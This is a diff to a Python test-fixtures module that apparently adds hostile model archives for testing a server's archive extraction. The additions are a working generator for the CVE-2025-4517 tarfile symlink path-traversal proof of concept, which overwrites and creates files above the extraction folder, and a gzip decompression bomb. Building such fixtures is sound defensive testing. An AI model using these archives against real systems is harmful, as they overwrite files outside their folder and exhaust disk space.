@@ -3,9 +3,12 @@ ensemble, as SageMaker multi-model endpoints take them; and hostile ones."""
 
 from __future__ import annotations
 
+import hashlib
 import io
+import os
 import tarfile
 import textwrap
+from pathlib import Path
 
 import numpy as np
 import onnx
@@ -117,3 +120,99 @@ def traversal_archive() -> bytes:
 
 def configless_archive() -> bytes:
     return tar_gz({"1/model.onnx": onnx_bytes(add_constant_onnx(1.0))})
+
+
+# -- hostile archives ------------------------------------------------------------------------
+
+
+def _symlink(name: str, target: str, kind: bytes = tarfile.SYMTYPE) -> tarfile.TarInfo:
+    info = tarfile.TarInfo(name)
+    info.type = kind
+    info.linkname = target
+    info.mode = 0o777
+    return info
+
+
+def _dir(name: str) -> tarfile.TarInfo:
+    info = tarfile.TarInfo(name)
+    info.type = tarfile.DIRTYPE
+    info.mode = 0o777
+    return info
+
+
+def _file(name: str, data: bytes) -> tuple[tarfile.TarInfo, io.BytesIO]:
+    info = tarfile.TarInfo(name)
+    info.size = len(data)
+    info.mode = 0o644
+    return info, io.BytesIO(data)
+
+
+def cve_2025_4517_archive(dest_len: int, *, levels_up: int = 3, prefix: str = "") -> bytes:
+    """The public proof of concept of CVE-2025-4517 (CPython's ``test_realpath_limit_attack``),
+    for an extraction folder whose absolute path is ``dest_len`` characters long.
+
+    Sixteen nested folders whose names are as long as PATH_MAX allows, each reachable through
+    a one-letter symlink (``a`` -> ``ddd…``, ``ddd…/b`` -> ``ddd…``, ...); then a link
+    ``a/b/…/p/lll…`` -> sixteen ``..``: ``os.path.realpath`` cannot expand it (the expanded path
+    is longer than PATH_MAX), so ``tarfile.data_filter`` judges it lexically and lets it pass,
+    while the kernel follows it back to the top. ``escape`` -> that link's ``..`` ``levels_up``
+    times then leaves the folder; ``flaglink`` is a hard link to ``escape/flag`` (a file that
+    exists outside) and is then overwritten with ``b"overwritten"``, and ``escape/pwned`` is
+    created with ``b"pwned"``: on an affected Python both land ``levels_up`` folders above
+    the extraction folder. ``prefix`` puts every member under a folder (``model/``; the
+    levels still count from the extraction folder).
+    """
+    steps = "abcdefghijklmnop"
+    component = "d" * ((4096 - dest_len - len(prefix) - 1) // (len(steps) + 1))
+    buffer = io.BytesIO()
+    with tarfile.open(fileobj=buffer, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
+        path = prefix.rstrip("/")
+        for step in steps:
+            tar.addfile(_dir(f"{path}/{component}".lstrip("/")))
+            tar.addfile(_symlink(f"{path}/{step}".lstrip("/"), component))
+            path = f"{path}/{component}"
+        top = "/".join([prefix.rstrip("/"), *steps]).lstrip("/")
+        linkpath = f"{top}/{'l' * 254}"
+        tar.addfile(_symlink(linkpath, "/".join([".."] * len(steps))))
+        escape = f"{prefix}escape"
+        up = levels_up + len([p for p in prefix.split("/") if p])
+        tar.addfile(_symlink(escape, "/".join([linkpath.removeprefix(prefix), *[".."] * up])))
+        tar.addfile(_symlink(f"{prefix}flaglink", f"{escape}/flag", tarfile.LNKTYPE))
+        tar.addfile(*_file(f"{prefix}flaglink", b"overwritten"))
+        tar.addfile(*_file(f"{escape}/pwned", b"pwned"))
+    return buffer.getvalue()
+
+
+def zeros_bomb_archive(members: int = 100, member_mb: int = 1) -> bytes:
+    """``members`` files of ``member_mb`` MiB of zeros: ~1000 times smaller compressed (the
+    issue's 2.5 MiB archive expanded to 2.45 GiB)."""
+    buffer = io.BytesIO()
+    zeros = bytes(member_mb << 20)
+    with tarfile.open(fileobj=buffer, mode="w:gz", compresslevel=9) as tar:
+        tar.addfile(*_file("bomb/config.pbtxt", textwrap.dedent(ADD.format(name="bomb")).encode()))
+        for i in range(members):
+            tar.addfile(*_file(f"bomb/1/weights{i:04d}.bin", zeros))
+    return buffer.getvalue()
+
+
+def cache_extraction_path_len(cache: Path) -> int:
+    """Length of the folder the disk cache extracts into: ``<cache>/.tmp-<32 hex>/content``."""
+    return len(str(cache)) + len("/.tmp-") + 32 + len("/content")
+
+
+def listing(root: Path, *, skip: Path) -> dict[str, str]:
+    """Every path under ``root`` but under ``skip``: a file's SHA-256, a link's target, 'dir'."""
+    seen: dict[str, str] = {}
+    for folder, dirs, files in os.walk(root):
+        here = Path(folder)
+        dirs[:] = [d for d in dirs if here / d != skip]
+        for name in dirs + files:
+            path = here / name
+            rel = str(path.relative_to(root))
+            if path.is_symlink():
+                seen[rel] = "-> " + os.readlink(path)
+            elif path.is_file():
+                seen[rel] = hashlib.sha256(path.read_bytes()).hexdigest()
+            else:
+                seen[rel] = "dir"
+    return seen
